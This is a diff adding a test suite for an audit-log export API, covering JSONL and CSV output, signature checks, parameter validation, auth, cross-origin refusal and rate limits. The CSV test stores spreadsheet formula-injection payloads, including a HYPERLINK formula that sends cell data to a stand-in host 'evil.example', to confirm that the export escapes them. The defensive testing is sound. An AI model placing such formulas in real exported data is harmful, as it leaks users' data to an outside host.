@@ -1,0 +1,149 @@
+import { createHash } from "node:crypto";
+import { checkExport } from "@countersign/store";
+import { describe, expect, it, onTestFinished } from "vitest";
+import { z } from "zod";
+import { openApi } from "../fixtures/api-harness.ts";
+
+const authorization = "Bearer the-token-of-the-tests";
+
+async function open() {
+  const api = await openApi();
+  onTestFinished(api.close);
+  const origin = new URL(api.url).origin;
+  const ask = (query: string, headers: Record<string, string> = { authorization }) =>
+    fetch(`${origin}/api/audit/export${query}`, { headers });
+  const deny = async (command: string, reason: string) => {
+    const { call } = await api.waiting(command);
+    await api.decide({ id: call.id, digest: call.digest, verdict: "deny", reason });
+  };
+  const key = async () =>
+    z
+      .object({ result: z.object({ data: z.object({ id: z.string() }) }) })
+      .parse((await api.get("audit.key")).body).result.data.id;
+  return { api, ask, deny, key };
+}
+
+async function* linesOf(text: string): AsyncGenerator<string> {
+  yield* text.split("\n").slice(0, -1);
+}
+
+describe("the export", () => {
+  it("in JSON lines is the whole ledger, can be checked without the server, and ends with the signed head", async () => {
+    const { ask, deny, key } = await open();
+    await deny("sh -c 'echo one'", "no\u2028one");
+    await deny("sh -c 'echo two'", "=no two");
+    const response = await ask("?format=jsonl");
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
+    expect(response.headers.get("content-disposition")).toMatch(
+      /^attachment; filename="countersign-audit-\d{4}-\d\d-\d\d\.jsonl"$/,
+    );
+    expect(response.headers.get("cache-control")).toBe("no-store");
+    const text = await response.text();
+    const check = await checkExport({ lines: linesOf(text), trustedKeys: new Set([await key()]) });
+    expect(check).toMatchObject({
+      isIntact: true,
+      gaps: 0,
+      forgotten: 0,
+      trailer: { by: "owner", broken: null },
+    });
+    if (!check.isIntact) throw new Error(check.reason);
+    const { head } = check.trailer;
+    expect(response.headers.get("countersign-ledger-head")).toBe(`${head?.seq} ${head?.hash}`);
+    expect(head?.seq).toBe(String(check.rows));
+    const verdicts = text.split("\n").map((line) => /"verdict":"(\w+)"/.exec(line)?.[1]);
+    expect(verdicts.filter((verdict) => verdict === "deny")).toHaveLength(2);
+  });
+
+  it("has only the rows that fit the filters, and says which those were", async () => {
+    const { ask, deny } = await open();
+    await deny("sh -c 'echo one'", "no");
+    await deny("sh -c 'echo two'", "no");
+    const text = await (await ask("?format=jsonl&verdict=deny&by=owner&text=ECHO%20two")).text();
+    const check = await checkExport({ lines: linesOf(text), trustedKeys: null });
+    const filters = { verdict: "deny", by: "owner" };
+    expect(check).toMatchObject({ isIntact: true, rows: 1, trailer: { filters, text: "ECHO two" } });
+    expect(text).toContain("echo two");
+    expect(text).not.toContain("echo one");
+  });
+
+  it("in CSV begins with the names of the columns, holds no formula, and ends with what is signed", async () => {
+    const { ask, deny } = await open();
+    await deny("sh -c true", '=HYPERLINK("http://evil.example/"&A1)');
+    await deny("sh -c false", "@SUM(1)\r\n;=1+1\0");
+    const response = await ask("?format=csv");
+    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
+    const bytes = Buffer.from(await response.arrayBuffer());
+    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const text = bytes.toString("utf8");
+    const records = text.split("\r\n").slice(0, -1);
+    expect(records[0]).toMatch(
+      /^\ufeff"row","decided_at","asked_at","waited_ms","verdict","tool","what","reason"/,
+    );
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
+    expect(text).toContain(`"'@SUM(1)\n;'=1+1\u2400"`);
+    const [mark, , ...rest] = (records.at(-1) ?? "").split('","');
+    expect(mark).toBe('"#');
+    expect(rest.length).toBeGreaterThan(0);
+    const body = text.slice(0, text.lastIndexOf('"#"'));
+    const sha256 = createHash("sha256").update(body, "utf8").digest("hex");
+    expect(records.at(-1)).toContain(`""sha256"":""${sha256}""`);
+  });
+
+  it.each([
+    { name: "no format", query: "", says: "format" },
+    { name: "another format", query: "?format=xml", says: "jsonl" },
+    { name: "a filter that there is none of", query: "?format=csv&color=red", says: "color" },
+    { name: "a verdict that there is none of", query: "?format=csv&verdict=maybe", says: "verdict" },
+    { name: "a kind that there is none of", query: "?format=csv&by=kind:ghost", says: "ghost" },
+    { name: "a filter twice", query: "?format=csv&tool=a&tool=b", says: "tool" },
+    { name: "a format twice", query: "?format=csv&format=jsonl", says: "format" },
+    { name: "a time that is none", query: "?format=csv&since=yesterday", says: "since" },
+  ])("refuses $name in words", async ({ query, says }) => {
+    const { ask } = await open();
+    const response = await ask(query);
+    expect(response.status).toBe(400);
+    expect(response.headers.get("content-disposition")).toBeNull();
+    expect(await response.text()).toContain(says);
+  });
+
+  it.each([
+    { name: "nobody", headers: {}, status: 401 },
+    { name: "a wrong token", headers: { authorization: "Bearer wrong-token-of-tests" }, status: 401 },
+    {
+      name: "a page of another origin",
+      headers: { authorization, origin: "http://evil.example" },
+      status: 403,
+    },
+    {
+      name: "a page of another site",
+      headers: { authorization, "sec-fetch-site": "cross-site" },
+      status: 403,
+    },
+  ])("gives nothing to $name", async ({ headers, status }) => {
+    const { ask } = await open();
+    const response = await ask("?format=jsonl", headers);
+    expect(response.status).toBe(status);
+    expect(await response.text()).not.toContain("previousHash");
+  });
+
+  it("frees its place when it is read or left", async () => {
+    const { ask } = await open();
+    for (let count = 0; count < 6; count++) {
+      const hangUp = await ask("?format=jsonl");
+      await hangUp.body?.cancel();
+    }
+    await expect.poll(async () => (await ask("?format=jsonl")).status).toBe(200);
+  });
+
+  it("is asked for only so often", async () => {
+    const { ask } = await open();
+    const statuses = new Set<number>();
+    for (let count = 0; count < 35; count++) {
+      const response = await ask("?format=jsonl&text=nothing");
+      statuses.add(response.status);
+      await response.text();
+    }
+    expect(statuses).toEqual(new Set([200, 429]));
+  });
+});
